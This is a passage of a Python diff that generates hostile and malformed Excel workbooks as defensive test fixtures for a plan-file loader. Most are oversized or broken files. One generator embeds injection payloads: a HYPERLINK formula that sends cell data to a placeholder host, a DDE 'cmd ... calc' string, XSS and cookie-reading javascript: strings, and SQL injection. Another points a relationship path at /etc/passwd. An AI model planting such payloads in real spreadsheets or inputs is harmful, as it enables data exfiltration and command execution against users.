@@ -1,0 +1,717 @@
+"""Malicious and malformed plan workbooks, beyond the unreadable files of tests/unreadable_files.py.
+
+    python -m scripts.hostile_workbooks CARPETA
+
+writes every workbook of :data:`HOSTILE` into CARPETA (``<name>.xlsx``, or ``.xlsm``). Each entry
+says what the loader must do with it (:class:`Hostile.expect`): ``"plan"`` (a usable plan,
+perhaps with warnings), ``"rechazo"`` (a refusal whose errors say why, in Spanish) or
+``"cualquiera"`` (either, as long as it is one of the two). ``tests/test_hostile.py`` reads each
+one in a child process with a time and memory limit.
+
+The workbooks are written as raw Office Open XML (not through openpyxl), so they can hold what
+Excel never writes: 200,000 rows, a declared dimension of the whole sheet, formulas without
+cached values, broken references … They are built in memory; the big ones take about a second.
+"""
+
+from __future__ import annotations
+
+import io
+import sys
+import zipfile
+from collections.abc import Callable, Iterable
+from dataclasses import dataclass, field
+from datetime import date
+from pathlib import Path
+from xml.sax.saxutils import escape
+
+# --------------------------------------------------------------------------------------------
+# A minimal .xlsx writer
+
+_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+_NS_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_EXCEL_EPOCH = date(1899, 12, 30)
+
+#: Style indices of :data:`STYLES`: 0 default, 1 date (dd/mm/yyyy), 2 solid blue fill, 3 percent.
+DATE, FILL, PERCENT = 1, 2, 3
+STYLES = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    f'<styleSheet {_NS}>'
+    '<numFmts count="1"><numFmt numFmtId="164" formatCode="dd/mm/yyyy"/></numFmts>'
+    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
+    '<fills count="3"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill>'
+    '<fill><patternFill patternType="solid"><fgColor rgb="FF9DC3E6"/><bgColor indexed="64"/></patternFill></fill>'
+    '</fills>'
+    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
+    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
+    '<cellXfs count="4"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
+    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
+    '<xf numFmtId="0" fontId="0" fillId="2" borderId="0" xfId="0" applyFill="1"/>'
+    '<xf numFmtId="9" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
+    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
+    '</styleSheet>'
+)
+
+
+def column_letter(index: int) -> str:
+    """0-based column index -> Excel letters."""
+    letters = ""
+    index += 1
+    while index:
+        index, remainder = divmod(index - 1, 26)
+        letters = chr(65 + remainder) + letters
+    return letters
+
+
+def cell(row: int, col: int, value: object, style: int | None = None) -> str:
+    """One ``<c>`` element (1-based row, 0-based column). Text is inline; dates are serials with a date style."""
+    ref = f"{column_letter(col)}{row}"
+    s = f' s="{style}"' if style is not None else ""
+    if value is None:
+        return f'<c r="{ref}"{s}/>'
+    if isinstance(value, Formula):
+        cached = f"<v>{escape(value.cached)}</v>" if value.cached is not None else ""
+        return f'<c r="{ref}"{s}{value.type_attr}><f>{escape(value.formula)}</f>{cached}</c>'
+    if isinstance(value, Raw):
+        return value.xml.replace("{ref}", ref)
+    if isinstance(value, bool):
+        return f'<c r="{ref}"{s} t="b"><v>{int(value)}</v></c>'
+    if isinstance(value, date):
+        serial = (value - _EXCEL_EPOCH).days
+        if value <= date(1900, 2, 28):
+            serial -= 1  # Excel's 1900 leap-year bug: serials before 1 March 1900 are one less
+        return f'<c r="{ref}" s="{style if style is not None else DATE}"><v>{serial}</v></c>'
+    if isinstance(value, (int, float)):
+        return f'<c r="{ref}"{s}><v>{value!r}</v></c>'
+    return f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'
+
+
+@dataclass(frozen=True)
+class Formula:
+    """A formula cell; ``cached=None`` means no cached value (what a generator that never calculates writes)."""
+
+    formula: str
+    cached: str | None = None
+    type_attr: str = ""
+
+
+@dataclass(frozen=True)
+class Raw:
+    """A cell written as given (``{ref}`` is replaced by the cell reference)."""
+
+    xml: str
+
+
+def rows_xml(rows: Iterable[list], first_row: int = 1, styles: dict[tuple[int, int], int] | None = None) -> str:
+    """``<row>`` elements for ``rows`` (lists of values; None cells are skipped)."""
+    styles = styles or {}
+    out = []
+    for r, values in enumerate(rows, start=first_row):
+        cells = "".join(cell(r, c, v, styles.get((r, c))) for c, v in enumerate(values)
+                        if v is not None or (r, c) in styles)
+        out.append(f'<row r="{r}">{cells}</row>')
+    return "".join(out)
+
+
+def sheet_xml(body: str, *, dimension: str | None = None, merges: Iterable[str] = (), extra: str = "") -> str:
+    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
+    merges = list(merges)
+    merged = (f'<mergeCells count="{len(merges)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merges)
+              + "</mergeCells>") if merges else ""
+    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet {_NS} {_NS_R}>{dim}'
+            f"<sheetData>{body}</sheetData>{merged}{extra}</worksheet>")
+
+
+@dataclass
+class SheetSpec:
+    name: str
+    xml: str | bytes
+    state: str = "visible"
+    rels: str | None = None  # the sheet's own relationships part, if any
+
+
+def xlsx(sheets: list[SheetSpec], *, shared_strings: str | bytes | None = None, styles: str | bytes | None = STYLES,
+         extra: dict[str, bytes | str] | None = None, extra_types: str = "", macros: bool = False,
+         workbook_extra: str = "") -> bytes:
+    """A workbook zip from raw parts."""
+    main_type = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macros else
+                 "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
+    overrides = [f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>']
+    rels = []
+    entries = []
+    for i, sheet in enumerate(sheets, start=1):
+        overrides.append(f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
+                         'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
+        rels.append(f'<Relationship Id="rId{i}" Type="{_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>')
+        state = f' state="{sheet.state}"' if sheet.state != "visible" else ""
+        entries.append(f'<sheet name="{escape(sheet.name, {chr(34): "&quot;"})}" sheetId="{i}"{state} r:id="rId{i}"/>')
+    n = len(sheets)
+    if styles is not None:
+        overrides.append('<Override PartName="/xl/styles.xml" '
+                         'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>')
+        rels.append(f'<Relationship Id="rId{n + 1}" Type="{_REL}/styles" Target="styles.xml"/>')
+    if shared_strings is not None:
+        overrides.append('<Override PartName="/xl/sharedStrings.xml" '
+                         'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
+        rels.append(f'<Relationship Id="rId{n + 2}" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>')
+    if macros:
+        overrides.append('<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>')
+        rels.append(f'<Relationship Id="rId{n + 3}" Type="http://schemas.microsoft.com/office/2006/relationships/'
+                    f'vbaProject" Target="vbaProject.bin"/>')
+    parts: dict[str, bytes | str] = {
+        "[Content_Types].xml": (
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+            '<Default Extension="xml" ContentType="application/xml"/>'
+            '<Default Extension="png" ContentType="image/png"/>'
+            f'{"".join(overrides)}{extra_types}</Types>'
+        ),
+        "_rels/.rels": (
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
+        ),
+        "xl/workbook.xml": (
+            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook {_NS} {_NS_R}>'
+            f'<sheets>{"".join(entries)}</sheets>{workbook_extra}</workbook>'
+        ),
+        "xl/_rels/workbook.xml.rels": (
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(rels)}'
+            '</Relationships>'
+        ),
+    }
+    for i, sheet in enumerate(sheets, start=1):
+        parts[f"xl/worksheets/sheet{i}.xml"] = sheet.xml
+        if sheet.rels:
+            parts[f"xl/worksheets/_rels/sheet{i}.xml.rels"] = sheet.rels
+    if styles is not None:
+        parts["xl/styles.xml"] = styles
+    if shared_strings is not None:
+        parts["xl/sharedStrings.xml"] = shared_strings
+    if macros:
+        parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # an OLE header, nothing more
+    parts.update(extra or {})
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content.encode("utf-8") if isinstance(content, str) else content)
+    return buffer.getvalue()
+
+
+# --------------------------------------------------------------------------------------------
+# A small, valid plan to build on
+
+PLAN_HEADERS = ["SUBCOMPONENTE", "ID", "ACTIVIDADES", "META DE PRODUCTO - INDICADOR", "RESPONSABLE"]
+MONTHS = [f"MES {m}" for m in range(1, 14)]
+SEGUIMIENTO_HEADERS = ["ID", "ACTIVIDAD", "FECHA DE CORTE", "% DE AVANCE", "ESTADO", "EVIDENCIA", "OBSERVACIONES"]
+SUBCOMPONENTES = ["Información", "Diálogo", "Incentivos", "Evaluación y seguimiento"]
+OFICINAS = ["Secretaría de Planeación", "Secretaría de Gobierno", "Oficina de Control Interno",
+            "Dirección de Comunicaciones y Relaciones Públicas"]
+
+
+@dataclass
+class PlanRows:
+    """A plan of ``n`` activities with the schedule beside it (one sheet) and a follow-up sheet."""
+
+    n: int = 8
+    ident: Callable[[int], object] = lambda k: f"{k % 4 + 1}.{k // 4 + 1}"
+    text: Callable[[int], object] = lambda k: f"Publicar el informe número {k + 1} en el sitio web"
+    office: Callable[[int], object] = lambda k: OFICINAS[k % len(OFICINAS)]
+    months: Callable[[int], list[int]] = lambda k: [k % 13 + 1, (k + 5) % 13 + 1]
+    reports: Callable[[int], list[tuple]] = lambda k: [(date(2018, 4, 30), 0.3), (date(2018, 8, 31), 0.6)]
+    extra_rows: list[list] = field(default_factory=list)
+
+    def plan_sheet(self, name: str = "Plan", **kwargs) -> SheetSpec:
+        rows = [["PLAN DE ACCIÓN RENDICIÓN DE CUENTAS – VIGENCIA 2018"], [], PLAN_HEADERS + MONTHS]
+        order = sorted(range(self.n), key=lambda k: k % 4)
+        for k in order:
+            months = set(self.months(k))
+            rows.append([SUBCOMPONENTES[k % 4], self.ident(k), self.text(k), "Un informe publicado", self.office(k),
+                         *["X" if m in months else None for m in range(1, 14)]])
+        rows += self.extra_rows
+        return SheetSpec(name, sheet_xml(rows_xml(rows), **kwargs))
+
+    def follow_up_sheet(self, name: str = "Seguimiento") -> SheetSpec:
+        rows = [SEGUIMIENTO_HEADERS]
+        for k in range(self.n):
+            for corte, avance in self.reports(k):
+                rows.append([self.ident(k), self.text(k), corte, avance, "En ejecución", "Actas", ""])
+        styles = {(r, 3): PERCENT for r in range(2, len(rows) + 1)}
+        return SheetSpec(name, sheet_xml(rows_xml(rows, styles=styles)))
+
+    def parameters_sheet(self, values: dict[str, object] | None = None) -> SheetSpec:
+        values = {"Entidad": "Municipio de Prueba", "Vigencia": 2018, "Mes 1 (mes calendario)": date(2018, 1, 1),
+                  "Meses del cronograma": 13, **(values or {})}
+        rows = [["Parámetro", "Valor"], *[[k, v] for k, v in values.items()]]
+        return SheetSpec("Parámetros", sheet_xml(rows_xml(rows)))
+
+    def workbook(self, **kwargs) -> bytes:
+        return xlsx([self.plan_sheet(), self.follow_up_sheet(), self.parameters_sheet()], **kwargs)
+
+
+# --------------------------------------------------------------------------------------------
+# The hostile workbooks
+
+
+@dataclass(frozen=True)
+class Hostile:
+    name: str
+    description: str  # Spanish: what the file holds
+    expect: str  # "plan", "rechazo" or "cualquiera"
+    build: Callable[[], bytes]
+    suffix: str = ".xlsx"
+
+
+def _rows_200000() -> bytes:
+    # 200,000 activity rows: more than the 60,000 rows a sheet may have.
+    body = [rows_xml([PLAN_HEADERS])]
+    body += [f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>Diálogo</t></is></c>'
+             f'<c r="C{r}" t="inlineStr"><is><t>Actividad {r}</t></is></c>'
+             f'<c r="E{r}" t="inlineStr"><is><t>Secretaría de Gobierno</t></is></c></row>'
+             for r in range(2, 200_002)]
+    return xlsx([SheetSpec("Plan", sheet_xml("".join(body)))])
+
+
+def _columns_5000() -> bytes:
+    plan = PlanRows()
+    header = PLAN_HEADERS + MONTHS + [f"Columna auxiliar {k}" for k in range(5000 - 18)]
+    rows = [header] + [[SUBCOMPONENTES[k % 4], f"{k % 4 + 1}.{k // 4 + 1}", plan.text(k), "Meta", OFICINAS[k % 4],
+                        "X", *([None] * 12), *[k * 5000 + c for c in range(5000 - 18)]] for k in range(8)]
+    return xlsx([SheetSpec("Plan", sheet_xml(rows_xml(rows)))])
+
+
+def _cell_1mb() -> bytes:
+    import random
+
+    rng = random.Random(1)
+    words = ["informe", "gestión", "audiencia", "ciudadanía", "diálogo", "comuna", "publicar", "rendición", "datos"]
+    huge = " ".join(f"{rng.choice(words)}{rng.randrange(10**6)}" for _ in range(75_000))[:1_048_576]
+    plan = PlanRows(text=lambda k: huge if k == 0 else f"Publicar el informe número {k + 1} del plan")
+    return plan.workbook()
+
+
+def _formulas_without_values() -> bytes:
+    # Every data cell is a formula without a cached value (a generator that never calculates).
+    plan = PlanRows(ident=lambda k: Formula(f'"{k % 4 + 1}."&"{k // 4 + 1}"'),
+                    text=lambda k: Formula(f'CONCATENATE("Actividad ","{k}")'),
+                    office=lambda k: Formula('"Secretaría de Planeación"'))
+    return xlsx([plan.plan_sheet()])
+
+
+def _hidden_plan() -> bytes:
+    plan = PlanRows()
+    hidden = plan.plan_sheet("Datos")
+    hidden.state = "hidden"
+    return xlsx([SheetSpec("Portada", sheet_xml(rows_xml([["Plan de acción"], ["Vea la hoja siguiente"]]))), hidden])
+
+
+def _very_hidden_follow_up() -> bytes:
+    plan = PlanRows()
+    follow_up = plan.follow_up_sheet()
+    follow_up.state = "veryHidden"
+    return xlsx([plan.plan_sheet(), follow_up])
+
+
+_PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+                     "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")
+
+
+def _images() -> bytes:
+    plan = PlanRows()
+    sheet = plan.plan_sheet()
+    sheet.xml = sheet.xml.replace("</worksheet>", '<drawing r:id="rId1"/></worksheet>')
+    sheet.rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+                  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                  'drawing" Target="../drawings/drawing1.xml"/></Relationships>')
+    drawing = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+               '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
+               'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+               'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+               + "".join(
+                   f'<xdr:oneCellAnchor><xdr:from><xdr:col>{k}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>{k}</xdr:row>'
+                   '<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="952500" cy="952500"/><xdr:pic><xdr:nvPicPr>'
+                   f'<xdr:cNvPr id="{k + 1}" name="Imagen {k + 1}"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>'
+                   f'<a:blip r:embed="rId{k + 1}"/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/>'
+                   '</xdr:oneCellAnchor>' for k in range(20))
+               + "</xdr:wsDr>")
+    drawing_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                    + "".join(f'<Relationship Id="rId{k + 1}" Type="http://schemas.openxmlformats.org/officeDocument/'
+                              f'2006/relationships/image" Target="../media/image{k + 1}.png"/>' for k in range(20))
+                    + "</Relationships>")
+    extra = {"xl/drawings/drawing1.xml": drawing, "xl/drawings/_rels/drawing1.xml.rels": drawing_rels,
+             **{f"xl/media/image{k + 1}.png": _PNG + bytes(k * 10_000) for k in range(20)}}
+    types = ('<Override PartName="/xl/drawings/drawing1.xml" '
+             'ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"/>')
+    return xlsx([sheet, plan.follow_up_sheet()], extra=extra, extra_types=types)
+
+
+def _xlsm_macros() -> bytes:
+    return PlanRows().workbook(macros=True)
+
+
+def _nul_escaped() -> bytes:
+    # Excel writes control characters as _xHHHH_ escapes; NUL, BEL, ESC and DEL in names and IDs.
+    plan = PlanRows(ident=lambda k: f"{k % 4 + 1}.{k // 4 + 1}_x0000_",
+                    office=lambda k: "Secretaría_x0007_ de _x001B_Gobierno_x0000_",
+                    text=lambda k: f"Actividad_x0000_ {k} con _x0008_retroceso y _x007F_ borrado")
+    return plan.workbook()
+
+
+def _nul_raw() -> bytes:
+    # Raw NUL and control bytes inside the XML (not allowed in XML 1.0).
+    plan = PlanRows(text=lambda k: Raw('<c r="{ref}" t="inlineStr"><is><t>Actividad \x00\x01\x1f fin</t></is></c>'))
+    return plan.workbook()
+
+
+def _bidi_override() -> bytes:
+    # Right-to-left override in office names and IDs: «Secretaría» shown reversed, IDs that look alike.
+    plan = PlanRows(ident=lambda k: f"\u202e{k % 4 + 1}.{k // 4 + 1}\u202c",
+                    office=lambda k: "\u202eaenaelP ed aíraterceS\u202c - \u2066Oficina de Control Interno\u2069")
+    return plan.workbook()
+
+
+def _confusables() -> bytes:
+    # Cyrillic look-alikes (е, а, о, с, р) in office names and IDs: «Sеcretaría» is not «Secretaría».
+    plan = PlanRows(ident=lambda k: f"{k % 4 + 1}.{k // 4 + 1}" if k % 2 else f"{k % 4 + 1}.{k // 4 + 1}\u0430",
+                    office=lambda k: ["Sеcrеtaría dе Planeación", "Secretaría de Planeación",
+                                      "Оficina de Соntrol Interno", "Oficina de Control Interno"][k % 4])
+    return plan.workbook()
+
+
+def _injection_strings() -> bytes:
+    injections = ['=HYPERLINK("http://ejemplo.invalid/robo?d="&A1,"Ver evidencia")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                  "+1", "-1+1", "<script>alert('hola')</script>", "=1+1", "<img src=x onerror=alert(1)>",
+                  "{{7*7}}", "'; DROP TABLE versions; --", "javascript:alert(1)"]
+    plan = PlanRows(text=lambda k: injections[k % len(injections)],
+                    office=lambda k: injections[(k + 3) % len(injections)] + " - Secretaría de Gobierno",
+                    ident=lambda k: ["=2+3", "@A1", "+7", "-1+1", "<b>1</b>", "1.1", "2.2", "3.3"][k % 8])
+    sheet = plan.follow_up_sheet()
+    sheet.xml = sheet.xml.replace("Actas", "javascript:alert(document.cookie)")
+    return xlsx([plan.plan_sheet(), sheet, plan.parameters_sheet({"Entidad": "=HYPERLINK(\"http://x.invalid\")"})])
+
+
+def _extreme_dates() -> bytes:
+    plan = PlanRows(reports=lambda k: [(date(1900, 1, 1), 0.1), (date(1900, 2, 28), 0.2), (date(9999, 12, 31), 0.5),
+                                       (Raw('<c r="{ref}" s="1"><v>60</v></c>'), 0.3)])  # 29/02/1900, which never was
+    return plan.workbook()
+
+
+def _extreme_period() -> bytes:
+    # MES 1 in December 9999 and 60 months: the period runs past the last date Python (and Excel) know.
+    plan = PlanRows()
+    return xlsx([plan.plan_sheet(), plan.follow_up_sheet(),
+                 plan.parameters_sheet({"Vigencia": 2100, "Mes 1 (mes calendario)": date(9999, 12, 1),
+                                        "Meses del cronograma": 60})])
+
+
+def _year_zero() -> bytes:
+    # «VIGENCIA 0000» in the title and «enero 0000» as MES 1: years no calendar has.
+    plan = PlanRows()
+    sheet = plan.plan_sheet()
+    sheet.xml = sheet.xml.replace("VIGENCIA 2018", "VIGENCIA 0000")
+    parameters = plan.parameters_sheet({"Vigencia": "0000", "Mes 1 (mes calendario)": "enero 0000"})
+    return xlsx([sheet, plan.follow_up_sheet(), parameters])
+
+
+def _title_year_9999() -> bytes:
+    # «VIGENCIA 9999» in the title and no parameters sheet: 13 months from January 9999 end in 10000.
+    plan = PlanRows()
+    sheet = plan.plan_sheet()
+    sheet.xml = sheet.xml.replace("VIGENCIA 2018", "VIGENCIA 9999")
+    return xlsx([sheet])
+
+
+def _unknown_offices() -> bytes:
+    names = ["Gerencia de Asuntos Lunares", "Unidad Especial de Nubes", "Despacho del Oráculo", "Comité Zeta"]
+    return PlanRows(office=lambda k: names[k % 4] + " con apoyo de " + names[(k + 1) % 4]).workbook()
+
+
+def _offices_10000() -> bytes:
+    plan = PlanRows(n=10_000, office=lambda k: f"Dependencia número {k} de la alcaldía",
+                    months=lambda k: [k % 13 + 1], reports=lambda k: [])
+    return xlsx([plan.plan_sheet()])
+
+
+def _long_sheet_names() -> bytes:
+    plan = PlanRows()
+    return xlsx([plan.plan_sheet("Plan " + "x" * 250), plan.follow_up_sheet("S" * 255)])
+
+
+def _case_duplicate_sheets() -> bytes:
+    plan = PlanRows()
+    other = PlanRows(ident=lambda k: f"{k % 4 + 1}.{k // 4 + 1}", text=lambda k: f"Otra actividad {k}")
+    return xlsx([plan.plan_sheet("Plan"), other.plan_sheet("PLAN"), plan.follow_up_sheet("seguimiento"),
+                 plan.follow_up_sheet("SEGUIMIENTO")])
+
+
+def _huge_dimension() -> bytes:
+    plan = PlanRows()
+    empty = SheetSpec("Vacía", sheet_xml("", dimension="A1:XFD1048576"))
+    lying = plan.plan_sheet("Plan", dimension="A1:XFD1048576")
+    return xlsx([empty, lying, plan.follow_up_sheet()])
+
+
+def _shared_string_references() -> bytes:
+    # One shared string referenced by 1,000,000 cells (a compact «bomb» of references).
+    shared = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+              f'<sst {_NS} count="1000000" uniqueCount="1"><si><t>X</t></si></sst>')
+    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{column_letter(c)}{r}" t="s"><v>0</v></c>' for c in range(100))
+                   + "</row>" for r in range(1, 10_001))
+    plan = PlanRows()
+    return xlsx([plan.plan_sheet(), SheetSpec("Marcas", sheet_xml(rows))], shared_strings=shared)
+
+
+def _deep_xml() -> bytes:
+    import random
+
+    rng = random.Random(2)
+    names = ["".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8)) for _ in range(50_000)]
+    nested = "".join(f"<{n}>" for n in names) + "<t>hondo</t>" + "".join(f"</{n}>" for n in reversed(names))
+    plan = PlanRows(text=lambda k: Raw('<c r="{ref}" t="inlineStr"><is>' + nested + "</is></c>") if k == 0
+                    else f"Actividad {k}")
+    return xlsx([plan.plan_sheet(), plan.follow_up_sheet()])
+
+
+def _sheets_1000() -> bytes:
+    plan = PlanRows()
+    filler = [SheetSpec(f"Hoja {k}", sheet_xml(rows_xml([[f"Nota {k}", k]]))) for k in range(997)]
+    return xlsx([plan.plan_sheet(), plan.follow_up_sheet(), plan.parameters_sheet(), *filler])
+
+
+def _merged_whole_sheet() -> bytes:
+    plan = PlanRows()
+    return xlsx([plan.plan_sheet(merges=["A1:XFD1048576"]), plan.follow_up_sheet()])
+
+
+def _merged_shaded_schedule() -> bytes:
+    # A shaded month cell whose merged range runs to the end of the sheet (months marked only by shading).
+    plan = PlanRows(months=lambda k: [])
+    sheet = plan.plan_sheet(merges=["F4:XFD1048576"])
+    sheet.xml = sheet.xml.replace('<row r="4">', '<row r="4"><c r="F4" s="2"/>', 1)
+    return xlsx([sheet, plan.follow_up_sheet()])
+
+
+def _style_out_of_range() -> bytes:
+    # Month cells shaded with a style index the style sheet does not have, next to real shading.
+    plan = PlanRows(months=lambda k: [])
+    sheet = plan.plan_sheet()
+    sheet.xml = sheet.xml.replace('<row r="4">', '<row r="4"><c r="F4" s="99999"/><c r="G4" s="2"/>', 1)
+    return xlsx([sheet, plan.follow_up_sheet()])
+
+
+def _broken_styles() -> bytes:
+    plan = PlanRows(months=lambda k: [])
+    sheet = plan.plan_sheet()
+    sheet.xml = sheet.xml.replace('<row r="4">', '<row r="4"><c r="F4" s="2"/>', 1)
+    return xlsx([sheet, plan.follow_up_sheet()], styles=STYLES.replace("</cellXfs>", "</cellXfs><patternFill solid"))
+
+
+def _bad_references() -> bytes:
+    # Rows numbered 0 and 2,000,000, a cell reference past column XFD.
+    rows = rows_xml([PLAN_HEADERS]) + (
+        '<row r="0"><c r="A0" t="inlineStr"><is><t>Diálogo</t></is></c></row>'
+        '<row r="2"><c r="A2" t="inlineStr"><is><t>Diálogo</t></is></c><c r="C2" t="inlineStr"><is><t>Actividad</t>'
+        '</is></c><c r="ZZZZ2" t="inlineStr"><is><t>lejos</t></is></c></row>'
+        '<row r="2000000"><c r="C2000000" t="inlineStr"><is><t>Actividad final</t></is></c></row>')
+    return xlsx([SheetSpec("Plan", sheet_xml(rows))])
+
+
+def _shared_string_index_out_of_range() -> bytes:
+    shared = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+              f'<sst {_NS} count="1" uniqueCount="1"><si><t>Diálogo</t></si></sst>')
+    plan = PlanRows(text=lambda k: Raw('<c r="{ref}" t="s"><v>999999</v></c>') if k < 2 else f"Actividad {k}")
+    return xlsx([plan.plan_sheet(), plan.follow_up_sheet()], shared_strings=shared)
+
+
+def _error_cells() -> bytes:
+    errors = ["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"]
+    plan = PlanRows(reports=lambda k: [(Raw(f'<c r="{{ref}}" t="e"><v>{errors[k % 7]}</v></c>'),
+                                        Raw(f'<c r="{{ref}}" t="e"><v>{errors[(k + 1) % 7]}</v></c>'))])
+    return plan.workbook()
+
+
+def _huge_numbers() -> bytes:
+    plan = PlanRows(reports=lambda k: [(date(2018, 4, 30), [1e308, -1e308, 1e-320, 12345678901234567890][k % 4])],
+                    ident=lambda k: [1e308, 2.5, -0.0, 10 ** 20, "1.1", "1.2", "1.3", "1.4"][k])
+    return plan.workbook()
+
+
+def _booleans_everywhere() -> bytes:
+    plan = PlanRows(ident=lambda k: bool(k % 2) if k < 2 else f"{k % 4 + 1}.{k // 4 + 1}",
+                    reports=lambda k: [(date(2018, 4, 30), True), (True, 0.5)])
+    return plan.workbook()
+
+
+def _odd_date_texts() -> bytes:
+    texts = ["31/02/2018", "00/00/0000", "2018-13-45", "mañana", "30 de febrero de 2018", "1/1/1", "99999999"]
+    plan = PlanRows(reports=lambda k: [(texts[k % len(texts)], "50 %")])
+    return plan.workbook()
+
+
+def _header_storm() -> bytes:
+    # The header row repeated 20,000 times (page breaks gone wild) with one activity between each.
+    rows = []
+    for k in range(20_000):
+        rows.append(PLAN_HEADERS)
+        rows.append([SUBCOMPONENTES[k % 4], f"{k % 4 + 1}.{k // 4 + 1}", f"Publicar el informe número {k}",
+                     "Un informe publicado", OFICINAS[k % 4]])
+    return xlsx([SheetSpec("Plan", sheet_xml(rows_xml(rows)))])
+
+
+def _duplicate_ids_massive() -> bytes:
+    return xlsx([PlanRows(n=10_000, ident=lambda k: "1", reports=lambda k: []).plan_sheet()])
+
+
+def _unmatched_follow_up() -> bytes:
+    # 2,000 activities and 20,000 follow-up rows naming activities by texts that match none of them.
+    plan = PlanRows(n=2000, text=lambda k: f"Publicar el informe de gestión número {k} en la página web institucional",
+                    reports=lambda k: [])
+    rows = [SEGUIMIENTO_HEADERS] + [
+        [None, f"Realizar la jornada de diálogo ciudadano {k} con las juntas de acción comunal", date(2018, 4, 30),
+         0.5, "", "", ""] for k in range(20_000)]
+    return xlsx([plan.plan_sheet(), SheetSpec("Seguimiento", sheet_xml(rows_xml(rows)))])
+
+
+def _rels_outside() -> bytes:
+    # The workbook's relationships point outside the package and to a missing part.
+    data = PlanRows().workbook()
+    source = zipfile.ZipFile(io.BytesIO(data))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            content = source.read(info)
+            if info.filename == "xl/_rels/workbook.xml.rels":
+                content = content.replace(b"worksheets/sheet2.xml", b"../../../../../etc/passwd")
+                content = content.replace(b"worksheets/sheet3.xml", b"worksheets/no_existe.xml")
+            target.writestr(info.filename, content)
+    return buffer.getvalue()
+
+
+def _chart_sheet_only() -> bytes:
+    chart = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+             '<chartsheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetViews><sheetView '
+             'workbookViewId="0"/></sheetViews></chartsheet>')
+    data = xlsx([SheetSpec("Gráfico", chart)])
+    return data.replace(b"spreadsheetml.worksheet+xml", b"spreadsheetml.chartsheet+xml").replace(
+        b"relationships/worksheet", b"relationships/chartsheet")
+
+
+def _marks_everywhere() -> bytes:
+    # Month cells full of long texts, numbers, dates and errors instead of an X.
